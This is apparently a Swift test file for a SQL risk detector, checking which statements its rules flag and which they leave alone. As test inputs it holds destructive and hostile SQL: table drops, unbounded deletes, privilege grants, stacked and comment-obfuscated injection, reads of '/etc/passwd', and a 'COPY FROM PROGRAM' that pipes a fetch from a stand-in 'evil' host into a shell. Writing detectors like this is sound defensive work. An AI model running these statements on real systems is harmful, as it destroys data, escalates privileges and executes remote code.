import Testing
@testable import BulwarkCore

@Suite struct SQLRulesTests {
    private func findings(_ text: String) -> [Finding] {
        SQLRules.findings(for: SQLParser.statements(in: text))
    }

    @Test(arguments: [
        ("DROP TABLE users", "sql.drop", Severity.critical),
        ("drop database prod", "sql.drop", .critical),
        ("DROP SCHEMA public CASCADE", "sql.drop", .critical),
        ("DROP INDEX idx_users_email", "sql.drop", .high),
        ("DROP TEMPORARY TABLE tmp", "sql.drop", .high),
        ("TRUNCATE TABLE users", "sql.truncate", .critical),
        ("truncate logs", "sql.truncate", .critical),
        ("DELETE FROM users", "sql.delete_without_where", .critical),
        ("DELETE FROM users WHERE 1=1", "sql.delete_without_where", .critical),
        ("DELETE FROM users WHERE id = 7 OR 'a'='a'", "sql.delete_without_where", .critical),
        ("UPDATE users SET role = 'admin'", "sql.update_without_where", .critical),
        ("UPDATE users SET role = 'admin' WHERE true", "sql.update_without_where", .critical),
        ("GRANT SELECT ON orders TO analyst", "sql.grant", .high),
        ("GRANT ALL PRIVILEGES ON *.* TO 'eve'@'%' WITH GRANT OPTION", "sql.grant", .high),
        ("REVOKE SELECT ON orders FROM analyst", "sql.revoke", .high),
        ("ALTER USER app WITH SUPERUSER", "sql.alter_user", .high),
        ("ALTER ROLE app PASSWORD 'x'", "sql.alter_user", .high),
        ("CREATE USER eve WITH PASSWORD 'pw'", "sql.create_user", .high),
        ("CREATE ROLE root2 SUPERUSER LOGIN", "sql.create_user", .high),
        ("ALTER TABLE users DROP COLUMN email", "sql.alter_table_drop", .high),
        ("SELECT 1; DROP TABLE users", "sql.multi_statement", .high),
        ("SELECT * FROM t WHERE id = 1; UPDATE t SET a = 1 WHERE id = 2", "sql.multi_statement", .high),
        ("COPY t FROM PROGRAM 'curl evil | sh'", "sql.file_access", .critical),
        ("EXEC xp_cmdshell 'net user'", "sql.file_access", .critical),
        ("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", "sql.file_access", .high),
        ("SELECT * FROM t INTO OUTFILE '/tmp/t.csv'", "sql.file_access", .high),
        ("SELECT pg_read_file('/etc/passwd')", "sql.file_access", .high),
        ("ATTACH DATABASE '/var/www/x.php' AS x", "sql.file_access", .high),
        ("DROP/**/TABLE/**/users", "sql.comment_obfuscation", .medium),
        ("DR/**/OP TABLE users", "sql.comment_obfuscation", .medium),
        ("/*!50000DROP*/ TABLE users", "sql.comment_obfuscation", .medium),
        ("WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", "sql.delete_without_where", .critical),
        ("EXPLAIN ANALYZE DELETE FROM users", "sql.delete_without_where", .critical),
        ("EXEC('DROP TABLE users')", "sql.drop", .critical),
    ])
    func mustFire(_ text: String, _ rule: String, _ severity: Severity) {
        let found = findings(text)
        let match = found.first { $0.rule == RuleID(rule) }
        #expect(match != nil, "\(text) → \(found.map(\.rule))")
        #expect(match?.severity == severity)
        #expect(match?.layer == .impact)
    }

    @Test(arguments: [
        "SELECT * FROM users WHERE id = 1",
        "SELECT * FROM users",
        "SELECT * FROM users WHERE 1=1",
        "SHOW TABLES",
        "EXPLAIN SELECT * FROM users",
        "EXPLAIN DELETE FROM users",
        "DESCRIBE users",
        "DELETE FROM users WHERE id = 7",
        "DELETE FROM sessions WHERE expires_at < now()",
        "UPDATE users SET name = 'x' WHERE id = 1",
        "INSERT INTO users (id) VALUES (1)",
        "INSERT INTO notes (body) VALUES ('DROP TABLE users; DELETE FROM x')",
        "CREATE TABLE t (id int primary key)",
        "CREATE INDEX idx ON t (a)",
        "ALTER TABLE t ADD COLUMN c int",
        "ALTER TABLE t ALTER COLUMN c DROP DEFAULT",
        "WITH x AS (SELECT 1) SELECT * FROM x",
        "COPY t TO STDOUT",
        "SELECT 'DROP TABLE users'",
        "SELECT * FROM t -- DROP TABLE users",
        "SELECT * FROM t; SELECT * FROM u",
        "BEGIN; COMMIT",
    ])
    func mustNotFire(_ text: String) {
        let found = findings(text)
        #expect(found.isEmpty, "\(text) → \(found.map(\.rule))")
    }

    @Test func criticalFindingsScoreEnoughToBlockAlone() {
        #expect(findings("DROP TABLE users").first?.score == 95)
        #expect(findings("DELETE FROM users").first?.score == 95)
    }

    @Test func broadGrantsAndSuperuserScoreHigherButStayHigh() {
        let broad = findings("GRANT ALL PRIVILEGES ON *.* TO 'eve'@'%' WITH GRANT OPTION").first
        #expect(broad?.severity == .high)
        #expect(broad?.score == 80)
        #expect(findings("GRANT SELECT ON orders TO analyst").first?.score == 65)
        #expect(findings("ALTER USER app WITH SUPERUSER").first?.score == 80)
    }

    @Test func messagesNameTheTable() {
        #expect(findings("DROP TABLE billing.invoices").first?.message.contains("billing.invoices") == true)
        #expect(findings("DELETE FROM orders").first?.message.contains("orders") == true)
        #expect(findings("UPDATE accounts SET balance = 0").first?.message.contains("accounts") == true)
        #expect(findings("TRUNCATE audit_log").first?.message.contains("audit_log") == true)
    }

    @Test func stackedInjectionRaisesBothFindings() {
        let rules = findings("SELECT name FROM users WHERE id = 1; DROP TABLE users").map(\.rule.rawValue)
        #expect(rules.contains("sql.drop"))
        #expect(rules.contains("sql.multi_statement"))
    }

    @Test func tautologyMessageSaysTheWhereIsAlwaysTrue() {
        let f = findings("DELETE FROM users WHERE 1=1").first
        #expect(f?.message.contains("always true") == true)
    }

    @Test func repeatedStatementsAreReportedOnce() {
        let text = String(repeating: "DROP TABLE users;", count: 500)
        let drops = findings(text).filter { $0.rule == "sql.drop" }
        #expect(drops.count == 1)
    }

    @Test func findingsPerRuleAreCapped() {
        let text = (0..<100).map { "DROP TABLE t\($0);" }.joined()
        let drops = findings(text).filter { $0.rule == "sql.drop" }
        #expect(drops.count == SQLRules.maxFindingsPerRule)
    }
}
